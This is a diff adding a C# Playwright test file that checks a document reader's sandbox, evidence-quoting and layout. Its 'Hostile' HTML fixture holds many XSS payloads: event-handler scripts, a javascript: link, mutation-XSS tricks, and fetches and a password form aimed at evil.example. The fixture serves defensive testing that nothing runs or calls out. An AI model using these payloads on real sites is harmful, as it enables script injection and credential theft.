@@ -1,0 +1,193 @@
+using System.Collections.Concurrent;
+using System.Security.Cryptography;
+using System.Text;
+using Microsoft.Playwright;
+using ThesisBoard.Browser.Tests.Browsing;
+using ThesisBoard.Browser.Tests.Editing;
+
+namespace ThesisBoard.Browser.Tests.Documents;
+
+/// <summary>Documents in a browser: dropped without a network, read in their sandbox, and quoted as evidence.</summary>
+public sealed class ReaderTests(Chromium chromium, OwnedBoard owned) : IClassFixture<OwnedBoard>
+{
+    private const string Inbox = Editors.Board + "/inbox";
+
+    private const string Release = """
+        <html><head><title>Results</title></head><body>
+        <p>Exhibit 99.1</p><h1>Cango Inc. Reports First Quarter 2026 Results</h1>
+        <p>Long-term debt was reduced to US$30.6 million as of March 31, 2026, from US$557.6 million as of December 31, 2025.</p>
+        <h2>Mining</h2><p>The company sold 4,451 BTC in February 2026.</p>
+        <table><tr><th>Item</th><th>2026</th></tr><tr><td>Long-term debt</td><td>30.6</td></tr></table>
+        </body></html>
+        """;
+
+    /// <summary>Everything that a filing must not do, each attempt at an address of its own.</summary>
+    private const string Hostile = """
+        <html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/">
+        <link rel="stylesheet" href="http://evil.example/style.css"><link rel="preload" as="image" href="http://evil.example/preload">
+        <style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) } .over { position: fixed; inset: 0; z-index: 99 }</style>
+        <script>window.ran = 1; top.ran = 1; fetch('http://evil.example/script')</script><script src="http://evil.example/script.js"></script></head>
+        <body onload="top.ran=2"><p>Readable text of the filing.</p>
+        <img src="http://evil.example/pixel.gif" onerror="top.ran=3"><img src="x" onerror="top.ran=4"><img srcset="http://evil.example/set.png 2x">
+        <div class="over" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.example/inline.png);z-index:9999">COVER</div>
+        <a id="trap" href="javascript:top.ran=5">click me</a><a href="http://evil.example/link" target="_top">go</a>
+        <form action="http://evil.example/form" method="post"><input name="password" autofocus onfocus="top.ran=6"><button>Send</button></form>
+        <svg onload="top.ran=7"><script>top.ran=8</script><image href="http://evil.example/svg.png"/><use href="http://evil.example/use.svg#x"/><animate onbegin="top.ran=9"/></svg>
+        <math><mtext><table><mglyph><style><img src=x onerror="top.ran=10"></style></mglyph></table></mtext></math>
+        <iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
+        <video src="http://evil.example/video" autoplay></video><audio src="http://evil.example/audio" autoplay></audio>
+        <table background="http://evil.example/table.png"><tr><td style="expression(top.ran=11)">cell</td></tr></table>
+        <noscript><p title="</noscript><img src=x onerror=top.ran=12>">x</p></noscript></body></html>
+        """;
+
+    [Fact]
+    public async Task A_hostile_filing_runs_nothing_and_asks_nobody_for_anything()
+    {
+        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
+        await Drop(tab, ("hostile.htm", Hostile));
+        var asked = new ConcurrentQueue<string>();
+        tab.Page.Request += (_, request) => asked.Enqueue(request.Url);
+        await OpenReader(tab, Hostile);
+        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Readable text of the filing.").WaitForAsync();
+        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("click me").ClickAsync();
+        await tab.Page.WaitForTimeoutAsync(1_000);
+
+        Assert.False(await tab.Page.EvaluateAsync<bool>("'ran' in window || 'ran' in document.querySelector('iframe').contentWindow"));
+        Assert.DoesNotContain(asked, url => new Uri(url).Authority != owned.Server.Address.Authority && !url.StartsWith("data:", StringComparison.Ordinal));
+        Assert.Contains("/documents/", tab.Page.Url, StringComparison.Ordinal);
+        Assert.Equal(0, await tab.Page.EvaluateAsync<int>(
+            """
+            (() => {
+              const page = document.querySelector('iframe').contentDocument;
+              const banned = page.querySelectorAll('script,form,input,iframe,object,embed,svg,math,video,audio,link,base,meta[http-equiv=refresh],[onload],[onerror],[src^=http],[href^=javascript]').length;
+              return banned + [...page.querySelectorAll('*')].filter(e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length;
+            })()
+            """));
+        tab.MustBeClean();
+    }
+
+    [Fact]
+    public async Task Selected_words_become_evidence_with_an_anchor_and_the_board_leads_back_to_them()
+    {
+        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
+        await Drop(tab, ("release-evidence.htm", Release));
+        await OpenReader(tab, Release);
+        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
+        await Select(tab, "Long-term debt was reduced to US$30.6 million as of March 31, 2026");
+        await tab.Page.Locator("#picked [data-do='attach-passage']").ClickAsync();
+        var dialog = tab.Page.GetByRole(AriaRole.Dialog).Last;
+        await dialog.Locator("form[data-form]").WaitForAsync();
+        Assert.Equal("Long-term debt was reduced to US$30.6 million as of March 31, 2026", await dialog.GetByLabel("The exact words of the source").InputValueAsync());
+        await dialog.GetByLabel("What is claimed").FillAsync("Debt fell to 30.6 million.");
+        await dialog.GetByLabel("Stance").First.SelectOptionAsync("supports");
+        await dialog.GetByLabel("Criterion").First.SelectOptionAsync("debt-reduction");
+        await dialog.GetByRole(AriaRole.Button, new() { Name = "Attach", Exact = true }).ClickAsync();
+
+        await Assertions.Expect(tab.Page.Locator("#evidence .anchored")).ToContainTextAsync("Debt fell to 30.6 million.", new() { Timeout = 15_000 });
+        await Assertions.Expect(tab.Page.FrameLocator("iframe[data-reader]").Locator("mark")).ToContainTextAsync("US$30.6 million");
+        await tab.Goto(Editors.Board + "?q=Debt+fell+to+30.6");
+        await tab.Page.GetByRole(AriaRole.Link, new() { Name = "Open in the document: Debt fell to 30.6 million." }).ClickAsync();
+        await Assertions.Expect(tab.Page.Locator(".asked")).ToContainTextAsync("exact");
+        await Assertions.Expect(tab.Page.FrameLocator("iframe[data-reader]").Locator("mark").First).ToBeInViewportAsync();
+        await Axe.Check(tab.Page);
+        tab.MustBeClean();
+    }
+
+    [Fact]
+    public async Task A_selected_figure_is_recorded_with_its_unit_period_and_the_same_source()
+    {
+        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
+        var release = Release.Replace("Results</title>", "Figure</title>", StringComparison.Ordinal);
+        await Drop(tab, ("release-figure.htm", release));
+        await OpenReader(tab, release);
+        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
+        await Select(tab, "US$30.6 million");
+        await tab.Page.Locator("#picked [data-do='record-passage']").ClickAsync();
+        var dialog = tab.Page.GetByRole(AriaRole.Dialog).Last;
+        await dialog.Locator("form[data-form]").WaitForAsync();
+
+        await Assertions.Expect(dialog).ToContainTextAsync("Reads as $30.6M");
+        Assert.Equal("(new)", await dialog.GetByLabel("Source", new() { Exact = true }).InputValueAsync());
+        Assert.Equal("long-term-debt", await dialog.GetByLabel("Metric").InputValueAsync());
+        await Axe.Check(tab.Page.Locator(".mud-dialog-container"));
+        tab.MustBeClean();
+    }
+
+    [Theory]
+    [InlineData(Theme.Light, 320)]
+    [InlineData(Theme.Dark, 320)]
+    [InlineData(Theme.Light, 768)]
+    [InlineData(Theme.Dark, 768)]
+    [InlineData(Theme.Light, 1440)]
+    [InlineData(Theme.Dark, 1440)]
+    public async Task The_reader_reads_well_in_both_themes_and_at_every_width(Theme theme, int width)
+    {
+        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium), theme, width);
+        var release = Release.Replace("Results</title>", Invariant($"Look {theme} {width}</title>"), StringComparison.Ordinal);
+        await Drop(tab, ("release-look.htm", release));
+        await Axe.Check(tab.Page);
+        await OpenReader(tab, release);
+        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
+        await Select(tab, "4,451 BTC");
+        await Assertions.Expect(tab.Page.Locator("#picked")).ToBeInViewportAsync();
+        await Axe.Check(tab.Page);
+        Assert.True(await tab.Page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= innerWidth"), "The page is wider than the window.");
+        await Pictures.Take(tab.Page, Invariant($"reader-{theme}-{width}"), wholePage: false);
+        tab.MustBeClean();
+    }
+
+    /// <summary>Drops files on the inbox, as from a desktop, and waits until each has become something.</summary>
+    private static async Task Drop(Tab tab, params (string Name, string Text)[] files)
+    {
+        await tab.Goto(Inbox);
+        foreach (var (name, text) in files)
+        {
+            await tab.Page.EvaluateAsync(
+                """
+                ([name, text]) => {
+                  const carried = new DataTransfer();
+                  carried.items.add(new File([Uint8Array.from(atob(text), c => c.charCodeAt(0))], name));
+                  const over = new DragEvent('dragover', { dataTransfer: carried, bubbles: true, cancelable: true });
+                  document.getElementById('main').dispatchEvent(over);
+                  if (!over.defaultPrevented) throw new Error('the page would open the file');
+                  document.getElementById('main').dispatchEvent(new DragEvent('drop', { dataTransfer: carried, bubbles: true, cancelable: true }));
+                }
+                """,
+                new[] { name, Convert.ToBase64String(Encoding.UTF8.GetBytes(text)) });
+            var line = tab.Page.Locator(".uploads li", new() { HasText = name });
+            await Assertions.Expect(line).ToHaveAttributeAsync("data-step", "Stored", new() { Timeout = 20_000 });
+            await Assertions.Expect(line).ToContainTextAsync("characters of text");
+        }
+    }
+
+    /// <summary>The reader of a dropped file, by the hash of its bytes.</summary>
+    private static Task OpenReader(Tab tab, string text) =>
+        tab.Goto($"{Editors.Board}/documents/{Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(text)))}");
+
+    /// <summary>Selects words in the document, as a mouse or a finger would.</summary>
+    private static async Task Select(Tab tab, string words)
+    {
+        await tab.Page.Locator("iframe[data-reader]").FocusAsync();
+        await tab.Page.EvaluateAsync(
+            """
+            words => {
+              const page = document.querySelector('iframe').contentDocument;
+              const walker = page.createTreeWalker(page.body, NodeFilter.SHOW_TEXT);
+              for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+                const at = node.data.indexOf(words);
+                if (at < 0) continue;
+                const range = page.createRange();
+                range.setStart(node, at);
+                range.setEnd(node, at + words.length);
+                page.getSelection().removeAllRanges();
+                page.getSelection().addRange(range);
+                node.parentElement.scrollIntoView({ block: 'center' });
+                return;
+              }
+              throw new Error('not on the page');
+            }
+            """,
+            words);
+        await tab.Page.Locator("#picked").WaitForAsync();
+    }
+}
